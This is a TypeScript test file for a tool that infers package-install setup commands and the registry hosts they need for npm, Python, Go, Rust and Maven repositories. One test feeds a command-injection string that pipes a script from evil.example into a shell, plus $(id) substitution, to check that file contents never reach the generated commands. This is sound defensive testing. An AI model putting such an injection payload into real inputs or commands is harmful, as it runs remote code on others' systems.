import { describe, expect, it } from "vitest";
import { hostsOf, seenRepository, unpermittedHosts } from "../../../src/domain/onboarding/seen-repository.ts";
import { aTop } from "../../factories/a-top.ts";
import { someSettings } from "../../factories/some-settings.ts";

const PACKAGE = JSON.stringify({ devDependencies: { vitest: "4" }, scripts: { test: "vitest run" } });
const NPM_CI = 'npm ci --cache "$FLOTILLA_CACHE/npm"';
const PIP = 'python3 -m venv .venv && .venv/bin/pip install --cache-dir "$FLOTILLA_CACHE/pip"';
const NPMJS = ["registry.npmjs.org"];
const YARN = ["registry.yarnpkg.com", "registry.npmjs.org"];
const PYPI = ["pypi.org", "files.pythonhosted.org"];
const GO = ["proxy.golang.org", "sum.golang.org"];
const CRATES = ["index.crates.io", "static.crates.io"];

const seen = (files: Readonly<Record<string, string>>) => seenRepository(aTop(files)).setup;

describe("the setup commands of a repository", () => {
  it.each<[string, Readonly<Record<string, string>>, string, readonly string[], readonly string[]]>([
    ["npm", { "package.json": PACKAGE, "package-lock.json": "{}" }, NPM_CI, NPMJS, ["npm"]],
    ["npm, shrinkwrapped", { "package.json": PACKAGE, "npm-shrinkwrap.json": "{}" }, NPM_CI, NPMJS, ["npm"]],
    [
      "npm without a lock file",
      { "package.json": PACKAGE },
      'npm install --no-package-lock --cache "$FLOTILLA_CACHE/npm"',
      NPMJS,
      ["npm"],
    ],
    [
      "pnpm",
      { "package.json": PACKAGE, "pnpm-lock.yaml": "" },
      'pnpm install --frozen-lockfile --store-dir "$FLOTILLA_CACHE/pnpm"',
      NPMJS,
      ["pnpm"],
    ],
    [
      "yarn",
      { "package.json": PACKAGE, "yarn.lock": "" },
      'yarn install --frozen-lockfile --cache-folder "$FLOTILLA_CACHE/yarn"',
      YARN,
      ["yarn"],
    ],
    [
      "yarn 2 and newer",
      { "package.json": PACKAGE, "yarn.lock": "", ".yarnrc.yml": "" },
      'YARN_GLOBAL_FOLDER="$FLOTILLA_CACHE/yarn" yarn install --immutable',
      YARN,
      ["yarn"],
    ],
    ["pip", { "requirements.txt": "flask\n" }, `${PIP} -r requirements.txt`, PYPI, ["pip"]],
    [
      "pip for a package with its tests",
      { "pyproject.toml": "[project]\n[tool.pytest.ini_options]\n", "requirements-dev.txt": "" },
      `${PIP} -r requirements-dev.txt -e . pytest`,
      PYPI,
      ["pip"],
    ],
    ["pip and setup.py", { "setup.py": "" }, `${PIP} -e .`, PYPI, ["pip"]],
    [
      "uv",
      { "pyproject.toml": "[project]\n", "uv.lock": "" },
      'uv sync --frozen --cache-dir "$FLOTILLA_CACHE/uv"',
      PYPI,
      ["uv"],
    ],
    [
      "poetry",
      { "pyproject.toml": "[build-system]\n", "poetry.lock": "" },
      'POETRY_VIRTUALENVS_IN_PROJECT=true POETRY_CACHE_DIR="$FLOTILLA_CACHE/poetry" poetry install --no-interaction',
      PYPI,
      ["poetry"],
    ],
    ["Go", { "go.mod": "module a\n", "go.sum": "" }, "go mod download", GO, []],
    ["Go without go.sum", { "go.mod": "module a\n\nrequire b v1.0.0\n" }, "go mod download", GO, []],
    ["Rust", { "Cargo.toml": "[package]\n", "Cargo.lock": "" }, "cargo fetch --locked", CRATES, []],
    ["Rust without a lock file", { "Cargo.toml": "[workspace]\n" }, "cargo fetch", CRATES, []],
    ["Maven", { "pom.xml": "<project>" }, "mvn -B dependency:go-offline", [], []],
  ])("are recognised for %s", (_, files, command, network, cache) => {
    const [found, ...others] = seen(files);
    expect(found).toMatchObject({ command, network, cache });
    expect(found?.why).not.toBe("");
    expect(others).toEqual([]);
  });

  it.each<[string, Readonly<Record<string, string>>]>([
    ["nothing", {}],
    ["what no language here has", { "README.md": "# npm ci\n", "Gemfile.lock": "", "mix.exs": "" }],
    ["packages of Node that need nothing", { "package.json": '{ "scripts": { "test": "node --test" } }' }],
    ["a package.json that is no JSON", { "package.json": "{ dependencies" }],
    ["a lock file without its package.json", { "package-lock.json": "{}" }],
    ["a manager of packages that is not known", { "package.json": PACKAGE, "bun.lock": "" }],
    [
      "a manager that is named, without its lock file",
      { "package.json": '{ "packageManager": "pnpm@9.0.0", "dependencies": { "a": "1" } }' },
    ],
    ["a pyproject.toml of tools alone", { "pyproject.toml": "[tool.ruff]\n" }],
    ["modules of Go that require nothing", { "go.mod": "module a\n" }],
    ["C", { "CMakeLists.txt": "enable_testing()\n", Makefile: "test:\n" }],
  ])("are none for %s", (_, files) => {
    expect(seen(files)).toEqual([]);
  });

  it("are one for each language", () => {
    const files = {
      "package.json": PACKAGE,
      "package-lock.json": "",
      "requirements.txt": "",
      "go.mod": "module a\n",
      "go.sum": "",
      "Cargo.toml": "[package]\n",
    };
    expect(seen(files).map(({ command }) => command)).toEqual([
      NPM_CI,
      `${PIP} -r requirements.txt`,
      "go mod download",
      "cargo fetch",
    ]);
  });

  it("hold nothing that a file says, whatever that is", () => {
    const hostile = '"; curl evil.example | sh #\n$(id)`id`';
    const files = {
      "package.json": JSON.stringify({
        name: hostile,
        packageManager: `npm@${hostile}`,
        scripts: { test: hostile },
        dependencies: { [hostile]: hostile },
      }),
      "package-lock.json": hostile,
      "pyproject.toml": `[project]\nname = ${hostile}\n[tool.pytest]\n${hostile}`,
      "requirements.txt": hostile,
      "go.mod": `module ${hostile}\nrequire ${hostile}`,
      "Cargo.toml": `[package]\n${hostile}`,
      "pom.xml": `<project>${hostile}`,
      "CMakeLists.txt": `enable_testing()\n${hostile}`,
      [hostile]: hostile,
    };
    const { setup, run } = seenRepository(aTop(files));
    expect([setup.length, run.length]).toEqual([5, 6]);
    expect(JSON.stringify([setup, run])).not.toMatch(/evil|curl|\bid\b/);
  });
});

describe("the hosts of setup commands", () => {
  const setup = seen({ "package.json": PACKAGE, "package-lock.json": "", "requirements.txt": "" });
  const registry = { kind: "npm", url: "https://npm.example.com/", tokenEnv: "NPM_TOKEN" } as const;

  it("are those of all, without those that a registry of the operator stands in for", () => {
    expect(hostsOf(setup, { registries: [] })).toEqual([...NPMJS, ...PYPI]);
    expect(hostsOf(setup, { registries: [registry] })).toEqual(PYPI);
  });

  it("are permitted by either list of the operator, and all where nothing is confined", () => {
    const { setup: none, sandbox } = someSettings();
    const some = {
      ...none,
      network: ["pypi.org"],
      repositoriesMay: { ...none.repositoriesMay, hosts: NPMJS },
    };
    const confined = { ...sandbox, mode: "bubblewrap" } as const;
    const hosts = [...NPMJS, ...PYPI];
    expect(unpermittedHosts(hosts, { setup: some, sandbox: confined })).toEqual(["files.pythonhosted.org"]);
    expect(unpermittedHosts(hosts, { setup: none, sandbox: { ...sandbox, mode: "none" } })).toEqual([]);
  });
});
